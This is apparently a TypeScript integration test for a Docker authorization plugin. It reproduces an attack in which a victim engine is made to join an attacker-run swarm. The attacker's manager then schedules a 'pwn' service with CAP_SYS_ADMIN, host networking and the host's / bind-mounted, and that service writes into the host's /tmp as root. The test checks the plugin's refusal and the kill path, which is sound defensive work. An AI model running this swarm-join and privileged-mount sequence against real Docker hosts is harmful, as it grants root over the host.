// `POST /swarm/join` at the authz door, with real engines as the judge, on
// every engine version (found in session 9: allowed unread).
//
// The attack: a caller allowed ordinary API use makes the host (the victim
// engine, with Bulkhead's plugin) join a swarm whose manager the attacker
// runs (a second private dockerd, no plugin). The manager then schedules a
// task on the joined node with a bind of the host's /, CAP_SYS_ADMIN and
// the host network. Swarm's executor creates that container inside the
// victim's dockerd, not through its API: the plugin never sees it. Only the
// reaction path (watcher events → enforcer) does, once it already runs.
//
// Network rule: each engine runs in a network namespace this test creates
// (`ip netns add`), joined by a veth pair whose addresses (192.0.2.0/24,
// TEST-NET-1) exist only inside those namespaces; both are deleted
// afterwards. Nothing touches the host's network or the default bridge.
//
// Per engine:
// - enforced (host rules, no exemption): the join is refused naming the
//   rules and the `swarm-join` exemption, recorded as a denial; the victim
//   stays out of the swarm; an init listening on a non-loopback address is
//   refused naming `swarm-init`; a loopback init (single-node swarm) and a
//   leave are allowed (the harmless control);
// - monitor mode: the join is allowed (fail-open, as elsewhere);
// - enforced with an exemption `names: [swarm-join]` (what an operator of a
//   real multi-node swarm does): the join is allowed and the attack goes
//   through — the task writes into the host's filesystem — until the
//   reaction path kills it; how long it ran is measured. The host audit
//   reports the joined node (`daemon.swarm-member`, high, naming the
//   foreign manager), and the loopback swarm of one as medium.
import t from 'tap';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createLogger, parsePolicy, type ViolationReport } from '@bulkhead/shared';
import type { AuthzDecisionReport } from '../../packages/agent/src/authz/authz-decider';
import { createDockerClient } from '../../packages/agent/src/docker/client';
import { ContainerWatcher } from '../../packages/agent/src/docker/watcher';
import { auditHost } from '../../packages/agent/src/lockdown/audit-host';
import { Enforcer, type ActionTiming } from '../../packages/agent/src/enforce/enforcer';
import type { PolicyState } from '../../packages/agent/src/policy/policy-holder';
import { ENGINE_VERSIONS, startPrivateEngine, TEST_IMAGE } from '../helpers/engine';
import { startJudgedEngine } from './judged-engine';

const logger = createLogger({ name: 'swarm-join', level: process.env['BULKHEAD_LOG_LEVEL'] ?? 'silent' });
const RULES = ['host.capabilities', 'host.sensitive-mounts', 'host.host-namespaces'] as const;

function policyState(mode: 'enforce' | 'monitor', exemptJoin = false): PolicyState {
  const ex = exemptJoin ? ', exemptions: [ { who: ops, why: our own swarm, match: { names: [swarm-join] } } ]' : '';
  return {
    policy: parsePolicy(`apiVersion: bulkhead.dev/v1
kind: Policy
metadata: { name: swarm-join }
spec:
  rules:
    - { id: host.capabilities, description: c, severity: high, mode: ${mode}, action: { type: kill }, check: { type: capabilities }${ex} }
    - { id: host.sensitive-mounts, description: m, severity: critical, mode: ${mode}, action: { type: kill }, check: { type: sensitive-mounts }${ex} }
    - { id: host.host-namespaces, description: n, severity: critical, mode: ${mode}, action: { type: kill }, check: { type: host-namespaces }${ex} }
`, 'swarm-join.yaml'),
    scans: new Map(), version: 1, source: 'bundle', sha256: `swarm-join-${mode}-${exemptJoin}`, projectLabel: 'bulkhead.project',
  };
}

const ip = (...args: string[]): void => {
  const r = spawnSync('ip', args, { encoding: 'utf8', timeout: 10_000 });
  if (r.status !== 0) throw new Error(`ip ${args.join(' ')}: ${r.stderr}`);
};

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

for (const version of ENGINE_VERSIONS) {
  t.test(`Docker ${version}: POST /swarm/join refused while host rules are enforced`, async (t) => {
    const tag = `${process.pid.toString(36)}${Math.random().toString(36).slice(2, 5)}`;
    const nsM = `bk-swjm-${tag}`;
    const nsV = `bk-swjv-${tag}`;
    const vethV = `vv${tag}`.slice(0, 15);
    ip('netns', 'add', nsM);
    t.teardown(() => ip('netns', 'del', nsM));
    ip('netns', 'add', nsV);
    t.teardown(() => ip('netns', 'del', nsV));
    ip('link', 'add', `vm${tag}`.slice(0, 15), 'netns', nsM, 'type', 'veth', 'peer', 'name', vethV, 'netns', nsV);
    ip('-n', nsM, 'addr', 'add', '192.0.2.1/24', 'dev', `vm${tag}`.slice(0, 15));
    ip('-n', nsV, 'addr', 'add', '192.0.2.2/24', 'dev', vethV);
    for (const [ns, dev] of [[nsM, `vm${tag}`.slice(0, 15)], [nsV, vethV]] as const) {
      ip('-n', ns, 'link', 'set', 'lo', 'up');
      ip('-n', ns, 'link', 'set', dev, 'up');
    }
    const proofDir = mkdtempSync('/tmp/bk-swj-');
    t.teardown(() => rmSync(proofDir, { recursive: true, force: true }));

    let state = policyState('enforce');
    const decisions: AuthzDecisionReport[] = [];
    // The attacker's manager: a plain private engine, no plugin.
    const m = await startPrivateEngine({ version, netns: nsM, t });
    const { engine: v, pluginName, plugin } = await startJudgedEngine(t, version, 'bk-swj', () => state, logger, { netns: nsV, onDecision: (r) => decisions.push(r) });
    t.teardown(async () => { await v.docker(['swarm', 'leave', '--force'], { timeoutMs: 30_000 }); });
    t.teardown(async () => { await m.docker(['swarm', 'leave', '--force'], { timeoutMs: 30_000 }); });
    await m.dockerOk(['swarm', 'init', '--advertise-addr', '192.0.2.1', '--listen-addr', '192.0.2.1:2377'], { timeoutMs: 60_000 });
    const token = await m.dockerOk(['swarm', 'join-token', '-q', 'worker']);
    const join = () => v.docker(['swarm', 'join', '--token', token, '--listen-addr', '192.0.2.2:2377', '--advertise-addr', '192.0.2.2', '192.0.2.1:2377'], { timeoutMs: 60_000 });
    const swarmState = async () => v.dockerOk(['info', '--format', '{{.Swarm.LocalNodeState}}']);
    // The host audit's view of the victim's swarm membership, from this engine's real `docker info`.
    const swarmFinding = async () => {
      const socket = v.dockerHost.replace(/^unix:\/\//, '');
      const findings = await auditHost({ docker: createDockerClient({ dockerHost: v.dockerHost }), containers: [], dockerSocketPath: socket });
      return findings.find((f) => f.id === 'daemon.swarm-member');
    };

    // Enforced: refused, named, recorded; nothing joined.
    const refused = await join();
    t.not(refused.code, 0, 'enforced: the join is refused');
    t.match(refused.stderr, new RegExp(`authorization denied by plugin ${pluginName}: Bulkhead policy "swarm-join" v1 denies this request:`), 'by the plugin');
    for (const rule of RULES) t.match(refused.stderr, `[${rule}]`, `names ${rule}`);
    t.match(refused.stderr, /POST \/swarm\/join runs the tasks a swarm's managers schedule.*Exempt names: \[swarm-join\]/s, 'says why and names the exemption');
    t.equal(await swarmState(), 'inactive', 'the victim is not in a swarm');
    t.equal((await m.dockerOk(['node', 'ls', '-q'])).split('\n').length, 1, 'the manager has no second node');
    t.match(decisions.find((d) => d.route === 'swarm'), { denied: true, container: { name: 'swarm-join' } }, 'recorded like any denial');

    // Harmless control: a single-node swarm on loopback, and leaving it.
    const remoteInit = await v.docker(['swarm', 'init', '--advertise-addr', '192.0.2.2', '--listen-addr', '192.0.2.2:2377'], { timeoutMs: 60_000 });
    t.not(remoteInit.code, 0, 'enforced: an init listening on a non-loopback address is refused');
    t.match(remoteInit.stderr, /\[host\.capabilities\].*not loopback.*exempt names: \[swarm-init\]/s);
    t.equal(await swarmState(), 'inactive');
    const localInit = await v.docker(['swarm', 'init', '--advertise-addr', '127.0.0.1', '--listen-addr', '127.0.0.1:2377'], { timeoutMs: 60_000 });
    t.equal(localInit.code, 0, `enforced: a loopback init (single-node swarm) is allowed (${localInit.stderr.trim()})`);
    t.equal(await swarmState(), 'active');
    const aloneFinding = await swarmFinding();
    t.match(aloneFinding, { severity: 'medium', evidence: { state: 'active', manager: true, remoteManagers: [] } }, `the host audit reports the swarm of one as medium: ${aloneFinding?.title}`);
    t.equal((await v.docker(['swarm', 'leave', '--force'], { timeoutMs: 30_000 })).code, 0, 'and leaving it');
    t.notOk(await swarmFinding(), 'out of the swarm: no finding');

    // Monitor mode: allowed (fail-open).
    state = policyState('monitor');
    const mon = await join();
    t.equal(mon.code, 0, `monitor mode: the join is allowed (${mon.stderr.trim()})`);
    t.equal(await swarmState(), 'active');
    t.equal((await v.docker(['swarm', 'leave', '--force'], { timeoutMs: 30_000 })).code, 0);

    // Exempted: what gets through, and what the reaction path does about it.
    state = policyState('enforce', true);
    const docker = createDockerClient({ dockerHost: v.dockerHost });
    const seen: Array<{ r: ViolationReport; timing?: ActionTiming }> = [];
    const watcher = await ContainerWatcher.start({ docker, logger, reconcileIntervalMs: 0 });
    const enforcer = new Enforcer({ docker, logger, policy: () => state, containers: watcher, onViolation: (r, timing) => seen.push({ r, ...(timing ? { timing } : {}) }) });
    const detach = enforcer.attach(watcher);
    t.teardown(async () => {
      detach();
      await enforcer.stop();
      await watcher.stop();
    });
    const ok = await join();
    t.equal(ok.code, 0, `exempted (names: [swarm-join]): the join is allowed (${ok.stderr.trim()})`);
    const nodeId = await v.dockerOk(['info', '--format', '{{.Swarm.NodeID}}']);
    const joined = await swarmFinding();
    t.match(joined, { severity: 'high', evidence: { state: 'active', nodeId, manager: false, remoteManagers: ['192.0.2.1:2377'] } }, `the host audit reports the joined node as high, naming the foreign manager: ${joined?.title}`);
    const proof = `${proofDir}/proof`;
    // The task proves it ran as root with the host's filesystem and network: it writes into the host's
    // /tmp through the bind of / and lists the interfaces it sees (the victim namespace's veth).
    const svc = await m.docker(['service', 'create', '-d', '--name', 'pwn', '--restart-condition', 'none', '--no-resolve-image',
      '--constraint', `node.id==${nodeId}`, '--cap-add', 'SYS_ADMIN', '--network', 'host', '--mount', 'type=bind,source=/,target=/host',
      TEST_IMAGE, 'sh', '-c', `{ id; grep CapEff /proc/self/status; ls /sys/class/net; } > /host${proof}; sleep 300`], { timeoutMs: 60_000 });
    t.equal(svc.code, 0, `the attacker's manager creates the service through its own API (${svc.stderr.trim()})`);
    let killed: { r: ViolationReport; timing?: ActionTiming } | undefined;
    for (let i = 0; i < 300 && !killed; i++) {
      killed = seen.find((s) => s.r.action?.type === 'kill' && s.r.action.result === 'ok' && (s.r.containerName ?? '').startsWith('pwn.1.'));
      if (!killed) await sleep(100);
    }
    t.ok(killed, `the reaction path killed the task's container (seen: ${JSON.stringify(seen.map((s) => [s.r.containerName, s.r.ruleId, s.r.action?.result]))})`);
    const task = (await v.dockerOk(['ps', '-aq', '--filter', 'label=com.docker.swarm.service.name=pwn'])).split('\n')[0] ?? '';
    t.not(task, '', 'the task ran on the victim');
    if (task !== '') {
      const info = JSON.parse(await v.dockerOk(['inspect', task]))[0] as {
        State: { Running: boolean; StartedAt: string; FinishedAt: string };
        HostConfig: { NetworkMode: string; CapAdd: string[] | null; Mounts: { Type: string; Source: string }[] | null };
      };
      t.equal(info.HostConfig.NetworkMode, 'host', 'dockerd: in the host\'s network namespace');
      t.match(info.HostConfig.CapAdd ?? [], ['CAP_SYS_ADMIN'], 'with CAP_SYS_ADMIN');
      t.match(info.HostConfig.Mounts ?? [], [{ Type: 'bind', Source: '/' }], 'with the host\'s / bound');
      t.equal(info.State.Running, false, 'no longer running');
      const ranMs = Date.parse(info.State.FinishedAt) - Date.parse(info.State.StartedAt);
      t.ok(ranMs > 0, 'it ran before it was killed');
      t.comment(`Docker ${version}: the foreign manager's task ran ${ranMs} ms (dockerd's StartedAt → FinishedAt) before the reaction path killed it; enforcer timing ${JSON.stringify(killed?.timing)}`);
    }
    let written = '';
    try { written = readFileSync(proof, 'utf8'); } catch { /* checked below */ }
    t.match(written, /uid=0\(root\)/, 'it wrote into the host\'s /tmp, as root');
    t.match(written, new RegExp(vethV), 'and saw the host network namespace\'s interfaces');
    t.comment(`what it wrote into ${proof}: ${JSON.stringify(written)}`);
    t.equal(plugin.stats.failOpen, 0);
  });
}
